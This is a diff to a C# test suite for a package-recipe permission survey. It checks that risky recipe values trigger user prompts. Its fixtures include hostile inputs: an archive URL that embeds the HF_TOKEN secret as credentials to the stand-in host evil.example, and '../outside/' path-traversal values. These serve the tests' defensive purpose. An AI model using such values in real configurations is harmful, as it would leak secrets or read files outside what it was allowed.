@@ -14,13 +14,14 @@ namespace Torchyard.Packages.Tests.Wishes;
 public sealed partial class RecipeSurveyTests : IDisposable
 {
     private const string Nothing = "";
+    private const string Vendor = "archive https://apt.example/ 2c70e12b7a0646f92279f427c7b38e7334d8e5389cff167a1dc30e73f826b683";
 
     // Each key of a recipe with what an attacker would write there, and what is asked for it. A key without a row fails the test below:
     // whoever adds one decides whether it can reach the user's files, network, secrets, or other users of the machine.
     private static readonly (string Key, string Table, string Value, string Wish)[] Keys =
     [
         ("name", "", "\"evil\"", Nothing),
-        ("packages", "", "[\"bash\"]", Nothing),
+        ("packages", "", "[\"bash\", \"../outside/x.deb\", \"./x.deb\"]", "file ROOT/outside/x.deb"),
         ("recommends", "", "true", Nothing),
         ("base.suite", "base", "\"sid\"", Nothing),
         ("base.architecture", "base", "\"arm64\"", Nothing),
@@ -35,6 +36,23 @@ public sealed partial class RecipeSurveyTests : IDisposable
             "[\"key.gpg\"]",
             "keyring PROJECT/key.gpg 2c70e12b7a0646f92279f427c7b38e7334d8e5389cff167a1dc30e73f826b683"
         ),
+        // Its key decides with the URL; nothing that anybody else signed is asked about with it.
+        (
+            "archives.url",
+            "archives",
+            "\"https://u:${HF_TOKEN}@evil.example/debian\"",
+            "archive https://evil.example/debian/ 2c70e12b7a0646f92279f427c7b38e7334d8e5389cff167a1dc30e73f826b683|variable HF_TOKEN "
+                + "evil.example"
+        ),
+        ("archives.suite", "archives", "\"sid\"", Vendor),
+        ("archives.components", "archives", "[\"extra\"]", Vendor),
+        (
+            "archives.key",
+            "archives",
+            "\"../outside/token\"",
+            "archive https://apt.example/ e781707f7b63d42b189c32e2a2e63426dc8484439a8f87c5cf57ad3233bf5c83|file ROOT/outside/token"
+        ),
+        ("archives.packages", "archives", "[\"*\"]", Vendor),
         (
             "python.packages",
             "python",
@@ -144,6 +162,11 @@ public sealed partial class RecipeSurveyTests : IDisposable
                 lines[table] = ["source = \"./data\"", "target = \"/workspace/data\""];
             }
 
+            if (table == "archives")
+            {
+                lines[table] = ["url = \"https://apt.example\"", "suite = \"s\"", "key = \"key.gpg\""];
+            }
+
             lines.TryAdd(table, []);
             lines[table].RemoveAll(line => line.StartsWith(name + " =", StringComparison.Ordinal));
             lines[table].Add($"{name} = {value}");
@@ -160,13 +183,50 @@ public sealed partial class RecipeSurveyTests : IDisposable
                 lines.Select(one =>
                     (
                         one.Key.Length == 0 ? ""
-                        : one.Key == "mounts" ? "[[mounts]]\n"
+                        : one.Key is "mounts" or "archives" ? $"[[{one.Key}]]\n"
                         : $"[{one.Key}]\n"
                     ) + string.Concat(one.Value.Select(line => line + "\n"))
                 )
             );
             Assert.Equal(Expected(wish), Wishes(text).Select(Shown).Order(StringComparer.Ordinal));
         }
+    }
+
+    [Fact]
+    public void An_archive_is_asked_about_once_for_recipe_and_lock_and_again_with_another_key()
+    {
+        var source = Source(
+            "name = \"x\"\n[base]\nsuite = \"trixie\"\n[[archives]]\nurl = \"https://apt.example/\"\nsuite = \"s\"\nkey = \"key.gpg\"\n"
+        );
+        var first = Assert.Single(Survey().Of(source, null));
+        Assert.Equal(
+            "take Debian packages from https://apt.example/, signed by keys of its own (SHA-256 2c70e12b7a06…)   (archives.url)",
+            first.Text
+        );
+        var archive = new LockedArchive
+        {
+            Id = "apt.example/s",
+            Uri = "https://apt.example/",
+            Suite = "s",
+            Components = ["main"],
+            ReleaseDigest = default,
+            ReleaseDate = 1,
+            Key = "F",
+            KeyDigest = Platform.Digests.Digest.Of("key"u8),
+        };
+        Assert.Equal([first], Survey().Of(source, Locked(archive)));
+        Assert.Equal(2, Survey().Of(source, Locked(archive with { KeyDigest = Platform.Digests.Digest.Of("other"u8) })).Count);
+
+        RecipeLock Locked(LockedArchive one) =>
+            new()
+            {
+                RecipeDigest = default,
+                Recipe = source.Recipe,
+                SourceDateEpoch = 1,
+                Archives = [one],
+                Packages = [],
+                Tools = new LockedTools(1, default, ""),
+            };
     }
 
     [Fact]
